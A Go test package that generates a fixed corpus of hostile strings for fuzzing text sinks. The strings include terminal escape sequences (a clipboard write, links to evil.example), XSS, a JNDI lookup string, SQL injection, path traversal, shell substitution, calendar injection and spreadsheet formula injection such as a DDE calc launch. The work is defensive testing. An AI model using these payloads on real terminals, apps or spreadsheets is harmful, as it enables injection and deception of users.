// Package corpus is a set of hostile texts for tests: whoever shows, stores or
// exports foreign text runs them through every field.
//
// It guarantees that [Payloads] always returns the same texts in the same
// order, at least five hundred of them, none twice.
//
// # Why
//
// A sink is safe for the texts someone thought of. So they are thought of once,
// generated from a small grammar (each dangerous thing alone, at the edges, in
// the middle, doubled and unfinished), and every sink is held to all of them.
package corpus

import (
	"fmt"
	"strings"
)

// Payloads returns the corpus. Many are not valid UTF-8.
func Payloads() []string {
	var out []string
	seen := map[string]bool{}
	add := func(s string) {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	for _, atom := range atoms() {
		for _, shape := range shapes() {
			add(fmt.Sprintf(shape, atom))
		}
	}
	for _, s := range whole() {
		add(s)
	}
	return out
}

// shapes are the places a dangerous thing may stand in.
func shapes() []string {
	return []string{"%[1]s", "a%[1]sb", "%[1]s%[1]s", "DSP %[1]s", "%[1]sUpgrade", "é%[1]s é", `"%[1]s`, ",%[1]s;"}
}

// atoms are dangerous by themselves.
func atoms() []string {
	var out []string
	for c := range 0x20 {
		out = append(out, string(rune(c)))
	}
	out = append(out, "\x7f")
	for c := 0x80; c < 0xa0; c++ {
		out = append(out, string(rune(c)))
	}
	out = append(out, escapes()...)
	for _, r := range invisible() {
		out = append(out, string(r))
	}
	return append(out, broken()...)
}

func escapes() []string {
	return []string{
		"\x1b[31m", "\x1b[2J", "\x1b[H", "\x1b[999;999H", "\x1b[?1049l", "\x1b[6n", "\x1b[c", "\x1bc", "\x1b(0",
		"\x1b]0;owned\x07", "\x1b]52;c;cm0gLXJm\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]2;t",
		"\x1bP1$r0m\x1b\\", "\x1b_Gi=1\x1b\\", "\x1b^pm\x1b\\", "\x1bX", "\u009b31m", "\u009d0;t\u009c", "\x1b[200~", "\x1b[201~",
		"\r\n", "\r", "\b\b\b", "\x1b[1A\x1b[2K", "\x1b[?25l", "\x1b[3J", "\x1b#8", "\x1b%G", "\x0e", "\x1b[8m",
	}
}

func invisible() []rune {
	return []rune{
		0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029,
		0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f,
		0x3164, 0xfe00, 0xfe0e, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffb, 0xe000, 0xfdd0, 0xffff, 0x1bca0, 0x1d173,
		0xe0001, 0xe0041, 0xe007f, 0xe0100, 0xf0000, 0x10ffff, 0x1f1ec, 0x1f3fb,
		0x2500, 0x2502, 0x250c, 0x2550, 0x2551, 0x2580, 0x2588, 0x2591, 0x25a0, 0x2800, 0x28ff, 0x23af, 0x1fb00,
	}
}

// broken are not UTF-8: stray bytes, lead bytes that swallow what follows,
// overlong forms, surrogates.
func broken() []string {
	return []string{
		"\x9b31m", "\x80", "\xff", "\xfe\xff", "\xe8\x1b]52;c;x\x07", "\xc3\x1b[2J", "\xf0\x9f\x1b[m", "\xc0\xaf", "\xe0\x80\x9b",
		"\xed\xa0\x80", "\xed\xbf\xbf", "\xf4\x90\x80\x80", "\xf8\x88\x80\x80\x80", "\xc3", "\xe2\x80", "\xf0\x9f\x98",
	}
}

// whole texts do their harm by length, place or meaning.
func whole() []string {
	out := []string{
		"", " ", "   ", "'", "''=1", `\`, `\\`, `\n`, `\;`, "^{1B}", "^^{1B}", "^{5E}{1B}", "^{", "^{}", "^{110000}", "<U+202E>", "=", ";", "a=b;c=d",
		strings.Repeat("─", 40), "┌──────────┐\n│Published │\n└──────────┘", strings.Repeat("█", 300),
		"Z" + strings.Repeat("\u0300", 50) + "algo", strings.Repeat("\u0489", 2000), "\u0301leading mark",
		strings.Repeat("a\u0316\u0317", 400), strings.Repeat("\u200b", 500), strings.Repeat("x", 16<<10), strings.Repeat("é", 8<<10),
		"👩‍👩‍👧‍👦 🏳️‍🌈 ⚠️", "🇬🇧", "👍🏿", "مرحبا بالعالم", "שלום", "DЅP", "Рaypal", "日本語 DSP", "ｆｕｌｌ　ｗｉｄｔｈ", "नमस्ते", "e\u0301",
		"line one\nline two\n", "tab\tseparated", "trailing\\", "one\r\ntwo\rthree",
		"BEGIN:VEVENT\r\nUID:x\r\nEND:VEVENT", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected", "x;y:z,w", `CN="a":mailto:x`, "DTSTART:20260101T000000Z",
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, "&lt;b&gt;", "javascript:alert(1)", "<!-- -->", "</style>", "{{.}}", "${jndi:ldap://x}",
		"[click](http://evil.example)", "![x](http://evil.example/p.png)", "http://evil.example", "www.evil.example", "a@evil.example", "`code`", "# head", "| a | b |",
		"${HOME} `id` $(id)", "'; DROP TABLE w; --", "../../etc/passwd", "%s%n%x", "null", "true", "NaN", "-0", "1e309", `{"id":"W-1"}`, "{\"a\":\"\\u001b\"}",
	}
	for _, lead := range []string{"=", "+", "-", "@", "\t=", "\r=", "\x00=", "'=", "''-", "＝", "＋", "－", "＠", " =", "\n="} {
		for _, f := range []string{"1+1", "cmd|' /C calc'!A0", `HYPERLINK("http://evil.example","x")`, "SUM(A1:A9)", "a;=b", `a,"=b`, "a\n=b", `a";=b`} {
			out = append(out, lead+f)
		}
	}
	return out
}
